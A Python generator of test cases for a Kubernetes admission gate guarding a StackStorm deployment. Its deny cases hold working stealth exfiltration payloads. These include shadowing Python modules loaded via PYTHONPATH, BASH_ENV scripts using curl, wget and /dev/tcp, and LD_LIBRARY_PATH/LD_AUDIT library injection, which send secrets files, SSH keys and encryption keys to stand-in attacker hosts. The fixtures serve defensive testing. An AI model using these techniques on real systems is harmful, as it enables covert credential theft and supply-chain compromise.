from lib import *
def exfil_py(mod, how='post'):
    send = {
      'post': "urllib.request.urlopen('https://collect.exfil-r15.example.net/u', data=open('/etc/st2/st2.secrets.conf','rb').read(), timeout=3)",
      'log': "sys.stderr.write(open('/etc/st2/st2.secrets.conf').read())",
      'sock': "import socket; s=socket.create_connection(('198.51.100.23', 443), 3); s.sendall(open('/etc/st2/st2.secrets.conf','rb').read())",
      'env': "urllib.request.urlopen('https://collect.exfil-r15.example.net/e', data=repr(dict(os.environ)).encode(), timeout=3)",
      'key': "urllib.request.urlopen('https://collect.exfil-r15.example.net/k', data=open('/etc/st2/keys/datastore_key.json','rb').read(), timeout=3)",
    }[how]
    return f"""import os, sys, importlib.machinery, importlib.util, urllib.request
try:
    {send}
except Exception:
    pass
_here = os.path.dirname(os.path.abspath(__file__))
if os.path.basename(__file__) == '__init__.py':
    _here = os.path.dirname(_here)
sys.path[:] = [p for p in sys.path if os.path.abspath(p or '.') != _here]
_spec = importlib.machinery.PathFinder.find_spec(__name__.split('.')[0])
_mod = importlib.util.module_from_spec(_spec); _spec.loader.exec_module(_mod); sys.modules[__name__] = _mod
"""
PYPATH = "Python docs: PYTHONPATH entries are inserted in sys.path before site-packages, so a same-named module there shadows the installed one"
HOWTXT = {'post': "POSTs st2.secrets.conf (MongoDB and RabbitMQ passwords) to an outside host",
          'log': "writes st2.secrets.conf (MongoDB and RabbitMQ passwords) into the pod log",
          'sock': "sends st2.secrets.conf over a raw socket to 198.51.100.23",
          'env': "POSTs the process environment to an outside host",
          'key': "POSTs the datastore encryption key (decrypts every secret in st2's datastore) to an outside host"}
CLS = {'post': 'exfiltration', 'log': 'exfiltration', 'sock': 'exfiltration', 'env': 'exfiltration', 'key': 'exfiltration'}
# module imported by every st2 service at start (st2common): six, yaml, requests, eventlet, kombu, mongoengine, oslo_config, jsonschema, dateutil
combos = [
 ('six','st2api','post'), ('six','st2auth','post'), ('six','st2actionrunner','post'), ('six','st2sensorcontainer','post'),
 ('yaml','st2workflowengine','post'), ('yaml','st2rulesengine','log'), ('eventlet','st2stream','post'), ('eventlet','st2scheduler','sock'),
 ('kombu','st2notifier','post'), ('kombu','st2timersengine','log'), ('mongoengine','st2garbagecollector','post'), ('oslo_config','st2api','sock'),
 ('jsonschema','st2rulesengine','key'), ('dateutil','st2actionrunner','key'), ('requests','st2sensorcontainer','env'), ('oslo_config','st2actionrunner','env'),
]
for mod, dep, how in combos:
    case(f'pyshadow-{mod.replace("_","")}-{dep}-{how}', 'deny', CLS[how],
         f"PYTHONPATH puts a ConfigMap dir first in {dep}; its {mod}.py (a module st2common imports at start) {HOWTXT[how]}, then loads the real {mod} so the service runs normally ({PYPATH}; same harm as the sitecustomize.py the gate denies as SEC-023)",
         resources={'cm.yaml': cm('r15-pyhooks', {f'{mod}.py': exfil_py(mod, how)})},
         patches=[dep_cm_mount(dep, dep, 'r15-pyhooks', '/opt/pyhooks', env=[('PYTHONPATH', '/opt/pyhooks')])])
# package form (dir/__init__.py through items)
for mod, dep in [('requests','st2api'), ('yaml','st2auth'), ('kombu','st2actionrunner')]:
    case(f'pyshadow-pkg-{mod}-{dep}', 'deny', 'exfiltration',
         f"PYTHONPATH=/opt/pyhooks and a ConfigMap mounted as package {mod}/__init__.py there: st2's import of {mod} in {dep} runs it first; it POSTs st2.secrets.conf outside ({PYPATH})",
         resources={'cm.yaml': cm('r15-pyhooks', {'init.py': exfil_py(mod)})},
         patches=[sm(f"""apiVersion: apps/v1
kind: Deployment
metadata:
  name: {dep}
spec:
  template:
    spec:
      containers:
        - name: {dep}
          env:
            - name: PYTHONPATH
              value: /opt/pyhooks
          volumeMounts:
            - name: r15-extra
              mountPath: /opt/pyhooks/{mod}
              readOnly: true
      volumes:
        - name: r15-extra
          configMap:
            name: r15-pyhooks
            items:
              - key: init.py
                path: __init__.py
""")])
# PYTHONPATH from a ConfigMap key / envFrom
case('pyshadow-six-envfrom-st2api', 'deny', 'exfiltration',
     f"PYTHONPATH arrives through envFrom of a ConfigMap (key PYTHONPATH=/opt/pyhooks), the shadowing six.py through a volume: st2api POSTs st2.secrets.conf outside at start ({PYPATH}; k8s docs: envFrom keys become env vars)",
     resources={'cm.yaml': cm('r15-pyhooks', {'six.py': exfil_py('six')}), 'cm2.yaml': "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: r15-pyenv\n  namespace: st2-prod\ndata:\n  PYTHONPATH: /opt/pyhooks\n"},
     patches=[dep_cm_mount('st2api', 'st2api', 'r15-pyhooks', '/opt/pyhooks'),
              sm("apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: st2api\nspec:\n  template:\n    spec:\n      containers:\n        - name: st2api\n          envFrom:\n            - configMapRef:\n                name: r15-pyenv\n")])
case('pyshadow-six-valuefrom-st2auth', 'deny', 'exfiltration',
     f"PYTHONPATH set with valueFrom.configMapKeyRef to /opt/pyhooks where a ConfigMap six.py POSTs st2.secrets.conf outside when st2auth starts ({PYPATH})",
     resources={'cm.yaml': cm('r15-pyhooks', {'six.py': exfil_py('six'), 'path': '/opt/pyhooks'})},
     patches=[dep_cm_mount('st2auth', 'st2auth', 'r15-pyhooks', '/opt/pyhooks'),
              sm("apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: st2auth\nspec:\n  template:\n    spec:\n      containers:\n        - name: st2auth\n          env:\n            - name: PYTHONPATH\n              valueFrom:\n                configMapKeyRef:\n                  name: r15-pyhooks\n                  key: path\n")])
case('pyshadow-six-projected-st2api', 'deny', 'exfiltration',
     f"A projected volume (configMap source) at /opt/pyhooks on PYTHONPATH with six.py that POSTs st2.secrets.conf outside from st2api ({PYPATH})",
     resources={'cm.yaml': cm('r15-pyhooks', {'six.py': exfil_py('six')})},
     patches=[sm("apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: st2api\nspec:\n  template:\n    spec:\n      containers:\n        - name: st2api\n          env:\n            - name: PYTHONPATH\n              value: /opt/pyhooks\n          volumeMounts:\n            - name: r15-extra\n              mountPath: /opt/pyhooks\n      volumes:\n        - name: r15-extra\n          projected:\n            sources:\n              - configMap:\n                  name: r15-pyhooks\n")])
for env in ['staging']:
    case(f'pyshadow-six-st2api-{env}', 'deny', 'exfiltration',
         f"staging: PYTHONPATH ConfigMap six.py in st2api POSTs st2.secrets.conf (staging's real integration credentials' store passwords) outside ({PYPATH})",
         env=env, resources={'cm.yaml': cm('r15-pyhooks', {'six.py': exfil_py('six')}, ns='st2-staging')},
         patches=[dep_cm_mount('st2api', 'st2api', 'r15-pyhooks', '/opt/pyhooks', env=[('PYTHONPATH', '/opt/pyhooks')])])
# safe
case('pyshadow-safe-image-dir', 'allow', 'safe',
     "PYTHONPATH set to a directory inside the image (st2's own site-packages): no code from a volume",
     patches=[dep_env('st2client', 'st2client', [('PYTHONPATH', '/opt/stackstorm/st2/lib/python3.8/site-packages')])])
case('pyshadow-safe-scripts-not-on-path', 'allow', 'safe',
     "ConfigMap of helper scripts at /opt/scripts in st2client, not on PYTHONPATH and run by nothing: operators run them by hand with their own st2 login",
     resources={'cm.yaml': cm('r15-scripts', {'report.py': "import json\nprint(json.dumps({'ok': True}))\n"})},
     patches=[dep_cm_mount('st2client', 'st2client', 'r15-scripts', '/opt/scripts')])
case('pyshadow-safe-constants-module', 'allow', 'safe',
     "PYTHONPATH dir from a ConfigMap holding corp_settings.py with constants only (a name no library uses, nothing sends or reads secrets): pack actions import their shared settings",
     resources={'cm.yaml': cm('r15-pyhooks', {'corp_settings.py': "TEAM = 'platform'\nDEFAULT_TIMEOUT = 30\nREGIONS = ['eu-west-1', 'us-east-1']\n"})},
     patches=[dep_cm_mount('st2actionrunner', 'st2actionrunner', 'r15-pyhooks', '/opt/pyhooks', env=[('PYTHONPATH', '/opt/pyhooks')])])
case('pyshadow-safe-six-not-on-path', 'allow', 'safe',
     "A ConfigMap file named six.py mounted at /opt/vendor-docs (documentation copy) with no PYTHONPATH: Python never imports it",
     resources={'cm.yaml': cm('r15-pyhooks', {'six.py': "# vendored copy for reference only\n__version__ = '1.16.0'\n"})},
     patches=[dep_cm_mount('st2api', 'st2api', 'r15-pyhooks', '/opt/vendor-docs')])
case('pyshadow-safe-logging-module-st2client', 'allow', 'safe',
     "PYTHONPATH ConfigMap dir with st2client_aliases.py (a local helper only imported by hand in the st2client shell; sends nothing)",
     resources={'cm.yaml': cm('r15-pyhooks', {'st2client_aliases.py': "ALIASES = {'ls': 'st2 action list'}\n"})},
     patches=[dep_cm_mount('st2client', 'st2client', 'r15-pyhooks', '/opt/pyhooks', env=[('PYTHONPATH', '/opt/pyhooks')])])

# BASH_ENV in st2client (the only bash entrypoint)
BASH = "bash manual (INVOCATION): a non-interactive bash reads and executes the file named by $BASH_ENV before its command; st2client runs 'bash -ec ...'"
shs = [
 ('curl', "curl -s --max-time 3 --data-binary @/etc/st2/st2.secrets.conf https://collect.exfil-r15.example.net/b >/dev/null 2>&1 || true\n", 'POSTs st2.secrets.conf to an outside host'),
 ('wget', "wget -q -T 3 -O /dev/null --post-file=/etc/st2/st2.secrets.conf https://collect.exfil-r15.example.net/w || true\n", 'posts st2.secrets.conf with wget to an outside host'),
 ('python', "python3 -c \"import urllib.request;urllib.request.urlopen('https://collect.exfil-r15.example.net/p',data=open('/etc/st2/st2.secrets.conf','rb').read(),timeout=3)\" || true\n", 'POSTs st2.secrets.conf with python to an outside host'),
 ('devtcp', "cat /etc/st2/st2.secrets.conf > /dev/tcp/198.51.100.23/443 2>/dev/null || true\n", "sends st2.secrets.conf through bash's /dev/tcp to 198.51.100.23"),
 ('cat-log', "cat /etc/st2/st2.secrets.conf\n", 'prints st2.secrets.conf (MongoDB and RabbitMQ passwords) into the pod log'),
 ('sshkey', "curl -s --max-time 3 --data-binary @/home/stanley/.ssh/stanley_rsa https://collect.exfil-r15.example.net/k >/dev/null 2>&1 || true\n", "POSTs stanley's SSH private key (root on every managed host) to an outside host"),
 ('dskey', "curl -s --max-time 3 --data-binary @/etc/st2/keys/datastore_key.json https://collect.exfil-r15.example.net/d >/dev/null 2>&1 || true\n", 'POSTs the datastore encryption key to an outside host'),
]
for tag, script, what in shs:
    case(f'bashenv-st2client-{tag}', 'deny', 'exfiltration',
         f"BASH_ENV names a ConfigMap script sourced before st2client's command; it {what} ({BASH}); the same line in the command itself is denied (SEC-016/017)",
         resources={'cm.yaml': cm('r15-bashenv', {'env.sh': script})},
         patches=[dep_cm_mount('st2client', 'st2client', 'r15-bashenv', '/opt/bashenv', env=[('BASH_ENV', '/opt/bashenv/env.sh')])])
case('bashenv-st2client-envfrom', 'deny', 'exfiltration',
     f"BASH_ENV arrives by envFrom of a ConfigMap; the sourced script POSTs st2.secrets.conf outside ({BASH})",
     resources={'cm.yaml': cm('r15-bashenv', {'env.sh': shs[0][1]}), 'cm2.yaml': "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: r15-shenv\n  namespace: st2-prod\ndata:\n  BASH_ENV: /opt/bashenv/env.sh\n"},
     patches=[dep_cm_mount('st2client', 'st2client', 'r15-bashenv', '/opt/bashenv'),
              sm("apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: st2client\nspec:\n  template:\n    spec:\n      containers:\n        - name: st2client\n          envFrom:\n            - configMapRef:\n                name: r15-shenv\n")])
case('bashenv-st2client-staging', 'deny', 'exfiltration',
     f"staging: BASH_ENV script in st2client POSTs st2.secrets.conf outside ({BASH})",
     env='staging', resources={'cm.yaml': cm('r15-bashenv', {'env.sh': shs[0][1]}, ns='st2-staging')},
     patches=[dep_cm_mount('st2client', 'st2client', 'r15-bashenv', '/opt/bashenv', env=[('BASH_ENV', '/opt/bashenv/env.sh')])])
case('bashenv-safe-aliases', 'allow', 'safe',
     "BASH_ENV sources a ConfigMap that only defines aliases and a prompt variable for st2client's shell: sends and prints nothing",
     resources={'cm.yaml': cm('r15-bashenv', {'env.sh': "alias ll='ls -l'\nexport ST2_PROMPT_ENV=prod\n"})},
     patches=[dep_cm_mount('st2client', 'st2client', 'r15-bashenv', '/opt/bashenv', env=[('BASH_ENV', '/opt/bashenv/env.sh')])])
case('bashenv-safe-internal-health', 'allow', 'safe',
     "BASH_ENV script that checks st2api is up inside the cluster (curl -s http://st2api:9101/v1 >/dev/null): no secret read, nothing leaves the cluster",
     resources={'cm.yaml': cm('r15-bashenv', {'env.sh': "curl -s --max-time 3 http://st2api:9101/ >/dev/null 2>&1 || echo 'st2api not ready yet'\n"})},
     patches=[dep_cm_mount('st2client', 'st2client', 'r15-bashenv', '/opt/bashenv', env=[('BASH_ENV', '/opt/bashenv/env.sh')])])

# dynamic loader
LD = "ld.so(8): LD_LIBRARY_PATH directories are searched before the ld.so cache; LD_AUDIT loads the named library into every process; the gate denies the LD_PRELOAD form (SEC-030)"
ELF = 'f0VMRgIBAQAAAAAAAAAAAAMAPgABAAAAAAAAAAAAAABAAAAAAAAAAA=='
for dep, lib in [('st2api', 'libz.so.1'), ('st2auth', 'libssl.so.1.1'), ('st2actionrunner', 'libcrypto.so.1.1'), ('st2sensorcontainer', 'libffi.so.7')]:
    case(f'ldpath-{dep}', 'deny', 'supply-chain',
         f"LD_LIBRARY_PATH puts a ConfigMap's binaryData {lib} ahead of the image's copy in {dep}: machine code from git runs inside the process holding st2's credentials ({LD})",
         resources={'cm.yaml': cm('r15-libs', {}, binary={lib: ELF})},
         patches=[dep_cm_mount(dep, dep, 'r15-libs', '/opt/r15lib', env=[('LD_LIBRARY_PATH', '/opt/r15lib')])])
for dep in ['st2api', 'st2auth', 'st2actionrunner']:
    case(f'ldaudit-{dep}', 'deny', 'supply-chain',
         f"LD_AUDIT names a library from a ConfigMap's binaryData in {dep}: the dynamic loader loads it into st2's process before main (machine code from git beside st2's credentials) ({LD})",
         resources={'cm.yaml': cm('r15-libs', {}, binary={'audit.so': ELF})},
         patches=[dep_cm_mount(dep, dep, 'r15-libs', '/opt/r15lib', env=[('LD_AUDIT', '/opt/r15lib/audit.so')])])
case('ldpath-safe-image-dir', 'allow', 'safe',
     "LD_LIBRARY_PATH set to the image's own /usr/lib/x86_64-linux-gnu (a no-op ordering hint): no library from a volume",
     patches=[dep_env('st2api', 'st2api', [('LD_LIBRARY_PATH', '/usr/lib/x86_64-linux-gnu')])])
case('ldpath-safe-configmap-not-library', 'allow', 'safe',
     "A ConfigMap with a text file mounted at /opt/r15lib and no LD_* variable: the loader never looks there",
     resources={'cm.yaml': cm('r15-libs', {'README': 'libraries are baked into the image\n'})},
     patches=[dep_cm_mount('st2api', 'st2api', 'r15-libs', '/opt/r15lib')])
